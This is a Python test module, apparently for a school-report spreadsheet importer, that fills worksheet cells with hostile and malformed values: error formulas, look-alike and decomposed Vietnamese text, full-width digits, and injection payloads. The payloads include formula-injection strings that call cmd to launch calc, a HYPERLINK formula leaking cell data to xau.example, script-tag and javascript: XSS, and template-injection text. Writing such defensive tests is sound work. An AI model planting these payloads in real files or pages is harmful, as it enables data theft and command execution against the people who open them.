"""What stands in cells: formulas gone wrong, numbers and dates that are none, text with teeth."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable

from tests.hostile.package import Package, put, put_text

Change = Callable[[Package], None]

HYPERLINK = '=HYPERLINK("http://xau.example/?x="&A1,"Bấm vào đây")'
COMMAND = "=cmd|'/C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{ 7 * 7 }}{% for x in y %}"
MARKUP = "[/bold][link=http://xau.example]x"
TEETH = (HYPERLINK, COMMAND, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1+1", "\r=1+1", SCRIPT, TEMPLATE, MARKUP)


def figure(markup: str, kind: str = "") -> Change:
    """The number of pupils as raw XML."""
    def change(package: Package) -> None:
        put(package.sheets["6T"].cell("N01", "total"), markup, kind)
    return change


def figure_typed(text: str) -> Change:
    def change(package: Package) -> None:
        put_text(package.sheets["6T"].cell("N01", "total"), text)
    return change


def day(markup: str, kind: str = "") -> Change:
    """The day of the unit's plan as raw XML: a cell with a date's format."""
    def change(package: Package) -> None:
        put(package.sheets["6T"].cell("A07.date", "total"), markup, kind)
    return change


def told(text: str) -> Change:
    """In a free text of the report."""
    def change(package: Package) -> None:
        put_text(package.sheets["6T"].cell("Q03", "total"), text)
    return change


def told_raw(markup: str) -> Change:
    """The same, as XML that a person's keyboard can't give."""
    def change(package: Package) -> None:
        put(package.sheets["6T"].cell("Q03", "total"), f"<is><t>{markup}</t></is>", "inlineStr")
    return change


def same_figure(write: Callable[[str], str]) -> Change:
    """The right number of pupils, written in another way, as text."""
    def change(package: Package) -> None:
        cell = package.sheets["6T"].cell("N01", "total")
        put_text(cell, write(cell[0].text))
    return change


def full_width(figure: str) -> str:
    return "".join(chr(ord(digit) + 0xFEE0) for digit in figure)


def computed(package: Package) -> None:
    """A formula with its value kept, as programs write it."""
    cell = package.sheets["6T"].cell("N01", "total")
    put(cell, f"<f>SUM(E1:E3)</f><v>{cell[0].text}</v>")


def text_from_a_formula(package: Package) -> None:
    put(package.sheets["6T"].cell("Q03", "total"),
        '<f>HYPERLINK("http://xau.example","Không có khó khăn, vướng mắc.")</f>'
        "<v>Không có khó khăn, vướng mắc.</v>", "str")


def error_in_a_record(package: Package) -> None:
    put(package.sheets["TV"].record(0, "status"), "<f>VLOOKUP(1,A:A,9)</f><v>#N/A</v>", "e")


def error_everywhere(package: Package) -> None:
    sheet = package.sheets["6T"]
    for key in ("B01", "B02", "B03"):
        for column in ("total", "female"):
            put(sheet.cell(key, column), "<f>#REF!</f><v>#REF!</v>", "e")


def look_alike(package: Package) -> None:
    """Eth for Đ, where a word of the form is expected."""
    put_text(package.sheets["6T"].cell("@submit", "total"), "Ðã nộp")


def decomposed_words(package: Package) -> None:
    sheet = package.sheets["6T"]
    for key in ("@submit", "A01"):
        cell = sheet.cell(key, "total")
        put_text(cell, unicodedata.normalize("NFD", "".join(cell.itertext())))


def with_teeth(package: Package) -> None:
    """Everything that a program further on might run, in every text that goes there."""
    sheet = package.sheets["6T"]
    for key, text in zip(("Q01", "Q02", "Q03", "Q04", "Q05"), (HYPERLINK, COMMAND, SCRIPT, TEMPLATE, MARKUP),
                         strict=True):
        put_text(sheet.cell(key, "total"), text)
    for number, text in enumerate(TEETH):
        put_text(sheet.cell(f"B0{number % 9 + 1}", "explanation"), text)
    put_text(sheet.cell("@doc_link", "total"), "javascript:alert(1)")
    put_text(sheet.cell("@doc_number", "total"), COMMAND)
    for tab, column in (("TT", "note"), ("VM", "content"), ("KT", "content"), ("TV", "name")):
        put_text(package.sheets[tab].record(0, column), HYPERLINK)
